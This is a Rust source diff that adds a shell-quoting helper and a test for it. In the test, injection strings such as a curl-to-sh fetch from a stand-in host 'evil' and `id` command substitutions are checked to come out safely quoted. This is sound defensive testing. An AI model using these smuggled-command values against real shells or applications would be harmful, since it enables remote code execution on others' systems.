@@ -12,6 +12,7 @@ pub mod face;
 mod handout;
 pub mod pages;
 
+use std::borrow::Cow;
 use std::sync::Arc;
 
 use http::StatusCode;
@@ -108,6 +109,15 @@ pub fn account_name(name: &str) -> Result<Arc<str>, LoginError> {
     if fits { Ok(name.into()) } else { Err(LoginError::AccountName) }
 }
 
+/// The text as one word of a shell's command line, for people who copy it.
+pub fn shell_word(text: &str) -> Cow<'_, str> {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"@%_+=:,./-".contains(&byte);
+    match !text.is_empty() && text.bytes().all(is_plain) {
+        true => Cow::Borrowed(text),
+        false => Cow::Owned(format!("'{}'", text.replace('\'', r"'\''"))),
+    }
+}
+
 /// The credential of this name.
 ///
 /// # Errors
@@ -143,6 +153,22 @@ mod tests {
         }
         for name in ["", "a b", "a\n", "é", "\u{7f}", "x".repeat(129).as_str()] {
             assert!(account_name(name).is_err(), "{name:?}");
+        }
+    }
+
+    #[test]
+    fn a_word_for_a_shell_is_one_word() {
+        let cases = [
+            ("alice@example.com", "alice@example.com"),
+            ("a|b", "'a|b'"),
+            ("x;curl${IFS}evil|sh", "'x;curl${IFS}evil|sh'"),
+            ("`id`", "'`id`'"),
+            ("~root", "'~root'"),
+            ("a'$(id)'", r"'a'\''$(id)'\'''"),
+            ("", "''"),
+        ];
+        for (text, want) in cases {
+            assert_eq!(shell_word(text), want, "{text}");
         }
     }
 
